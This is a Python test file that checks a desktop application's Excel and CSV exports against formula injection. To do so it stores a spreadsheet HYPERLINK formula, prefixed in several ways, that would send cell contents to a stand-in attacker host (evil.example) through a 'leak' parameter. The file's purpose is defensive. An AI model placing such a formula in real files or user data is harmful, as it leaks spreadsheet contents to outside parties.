"""Formula injection: text that a spreadsheet program could take for a formula comes out of
every export as text.

Every name, title and partner comment of the demo database is made to start with a formula
(for each prefix a spreadsheet program acts on, the full-width ones too); each export is
written and read back, and EVERY cell of every sheet is inspected, so that a column or a
sheet added to an export later is covered without a change here.

Not spreadsheets, so not concerned: the calendar (.ics: a calendar program shows its text as
text), ``export json`` (data, opened by programs, not by spreadsheet programs), the PDF
donor report (painted text).
"""

from __future__ import annotations

import csv
import shutil
import unicodedata
from pathlib import Path

import openpyxl
import pytest
import sqlalchemy as sa

from unccd_desktop.domain import (
    Agreement,
    Deliverable,
    FocalPoint,
    Initiative,
    Partner,
    PartnerUpdate,
    Project,
)
from unccd_desktop.excel.donor_report import export_donor_report
from unccd_desktop.excel.importing import preview_import
from unccd_desktop.excel.list_export import write_list
from unccd_desktop.excel.partner_workbook import export_partner_workbook
from unccd_desktop.excel.writing import needs_guard
from unccd_desktop.services import Actor, Services, open_services

PREFIXES = {
    "equals": "=",
    "plus": "+",
    "minus": "-",
    "at": "@",
    "tab": "\t",
    "carriage-return": "\r",
    "full-width-equals": "＝",
    "full-width-plus": "＋",
    "full-width-minus": "－",
    "full-width-at": "＠",
    "space-then-equals": " =",
}
FORMULA = 'HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
PARTNER = "GEO"  # responsible for deliverables, has focal points
DONOR = "Republic of Korea"


def formula_like(text: str) -> bool:
    """What a spreadsheet program may evaluate: a formula sign first (after spaces, and in
    its full-width form too), or a tab or line break first."""
    if text[:1] in ("\t", "\r", "\n"):
        return True
    first = unicodedata.normalize("NFKC", text.lstrip()[:1])
    return first in ("=", "+", "-", "@")


def plain(text: str) -> str:
    """The text as a spreadsheet program shows it: a carriage return is written as _x000D_ or
    as itself, which XML reads as a line feed; either way it is a line break."""
    return text.replace("_x000D_", "\r").replace("\r\n", "\n").replace("\r", "\n")


@pytest.fixture(params=list(PREFIXES.values()), ids=list(PREFIXES))
def hostile(request, demo_template: Path, tmp_path: Path):
    """The demo database with every name, title and comment starting with the formula;
    yields the services, the formula as stored, and the uuids of the partner and donor."""
    payload = request.param + FORMULA
    copy = tmp_path / "hostile.unccd"
    shutil.copyfile(demo_template, copy)
    services = open_services(copy, actor=Actor("tester", "test"), backup=False)
    partner = services.partners.find_by_name(PARTNER)["uuid"]
    donor = services.partners.find_by_name(DONOR)["uuid"]
    with services.db.write() as session:

        def marked(column):  # the formula, then the record's id: names stay unique
            return sa.literal(payload) + " " + sa.cast(column.table.c.id, sa.String)

        for model, fields in (
            (Partner, ("name", "acronym")),
            (Deliverable, ("title", "notes")),
            (Project, ("title",)),
            (Agreement, ("title",)),
            (Initiative, ("name",)),
            (FocalPoint, ("name", "title")),
        ):
            values = {f: marked(getattr(model, f)) for f in fields}
            session.execute(sa.update(model).values(values))
        session.execute(sa.update(Partner).where(Partner.uuid == donor).values(acronym="DONOR"))
        partner_id = session.scalar(sa.select(Partner.id).where(Partner.uuid == partner))
        for deliverable_id in session.scalars(
            sa.select(Deliverable.id).where(Deliverable.responsible_partner_id == partner_id)
        ):
            session.add(
                PartnerUpdate(deliverable_id=deliverable_id, partner_id=partner_id, comment=payload)
            )
    yield services, payload, partner
    services.close()


def inspect_workbook(path: Path) -> list[str]:
    """Check every cell of every sheet; return the texts that hold the formula."""
    book = openpyxl.load_workbook(path)
    holding = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                where = f"{path.name}: {ws.title}!{cell.coordinate}"
                assert cell.data_type != "f", f"{where} is a formula: {cell.value!r}"
                assert cell.hyperlink is None, f"{where} links to {cell.hyperlink.target}"
                if not isinstance(cell.value, str):
                    continue
                value = plain(cell.value)
                if formula_like(value):
                    assert cell.data_type in ("s", "inlineStr"), where
                    assert cell.quotePrefix, f"{where} holds {value!r} without a quote prefix"
                if FORMULA in value:
                    holding.append(value)
    return holding


@pytest.mark.parametrize("language", ["en", "ar"])
def test_partner_update_workbook(hostile, tmp_path, language):
    services, payload, partner = hostile
    out = tmp_path / "update.xlsx"
    export_partner_workbook(services, partner, out, language=language)
    holding = inspect_workbook(out)
    titles = deliverable_titles(services, partner)
    assert {plain(t) for t in titles} <= set(holding), "every deliverable title, unchanged"
    assert plain(payload) in holding, "the partner's comment, unchanged"


@pytest.mark.parametrize("language", ["en", "ar"])
def test_donor_report(hostile, tmp_path, language):
    services, payload, _partner = hostile
    out = tmp_path / "donor.xlsx"
    export_donor_report(services, out, donor="DONOR", language=language)
    holding = inspect_workbook(out)
    assert any(text.startswith(plain(payload)) for text in holding), holding[:3]


def list_rows(services: Services) -> list[list]:
    """A list as the window shows it: text, a date, a negative number."""
    with services.db.read() as session:
        found = session.execute(
            sa.select(Deliverable.title, Partner.name, Deliverable.due_on)
            .outerjoin(Partner, Partner.id == Deliverable.responsible_partner_id)
            .order_by(Deliverable.id)
        ).all()
    return [[title, name, due, -5] for title, name, due in found]


def test_list_export_workbook(hostile, tmp_path):
    services, _payload, _partner = hostile
    rows = list_rows(services)
    out = tmp_path / "list.xlsx"
    write_list(out, ["Title", "Responsible partner", "Due", "Change"], rows)
    holding = inspect_workbook(out)
    assert {plain(r[0]) for r in rows} <= set(holding)
    sheet = openpyxl.load_workbook(out).active
    assert {c.value for c in sheet["D"][1:]} == {-5}, "a negative number stays a number"


def test_list_export_csv(hostile, tmp_path):
    services, _payload, _partner = hostile
    rows = list_rows(services)
    out = tmp_path / "list.csv"
    write_list(out, ["Title", "Responsible partner", "Due", "Change"], rows)
    with out.open(encoding="utf-8-sig", newline="") as fh:
        read = list(csv.reader(fh))
    for number, values in enumerate(read[1:], start=2):
        for value in values:
            if value == "-5":
                continue  # a number, written as one
            assert not formula_like(value), f"row {number} holds {value!r} unescaped"
    titles = [values[0] for values in read[1:]]
    assert titles == ["'" + r[0] for r in rows], "the text, after the escaping apostrophe"


def deliverable_titles(services: Services, partner: str) -> list[str]:
    with services.db.read() as session:
        return list(
            session.scalars(
                sa.select(Deliverable.title)
                .join(Partner, Partner.id == Deliverable.responsible_partner_id)
                .where(Partner.uuid == partner)
            )
        )


@pytest.mark.parametrize("text", ["-5 (two weeks late)", "=1+1", "+41 22 917 8000", "＠unccd"])
def test_imported_values_are_not_escaped(demo_services, exported, tmp_path, text):
    """Escaping is for what is written out: a comment typed in the workbook that starts with a
    formula sign comes back as typed, and a negative number typed in the progress column is
    still a number (refused as out of range, not as text)."""
    wb = openpyxl.load_workbook(exported.path)
    ws = wb["Deliverables"]
    headers = [c.value for c in ws[1]]
    comment = ws.cell(2, headers.index("Comments") + 1)
    comment.value, comment.data_type = text, "s"
    ws.cell(3, headers.index("Progress (%)") + 1).value = -5
    wb.save(tmp_path / "typed.xlsx")

    report = preview_import(demo_services, tmp_path / "typed.xlsx")
    commented = next(r for r in report.rows if r.row == 2)
    assert commented.changes["comment"].new == text, commented.to_json()
    negative = next(r for r in report.rows if r.row == 3)
    assert [m.message for m in negative.messages] == [
        "Progress (%): -5 is not a percentage from 0 to 100."
    ]


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("=1+1", True),
        ("  =1+1", True),  # spaces first: still a formula once edited in some programs
        ("\u3000＝1+1", True),
        ("\n=1", True),
        ("-5", True),  # a number typed as text stays text
        ("#N/A", True),
        ("   ", False),  # whitespace only
        ("Plan B - revised =", False),
        ("5-", False),
        ("#1 priority", False),
        ("Ω", False),
        ("", False),
    ],
)
def test_which_text_is_escaped(text, escaped):
    assert needs_guard(text) is escaped
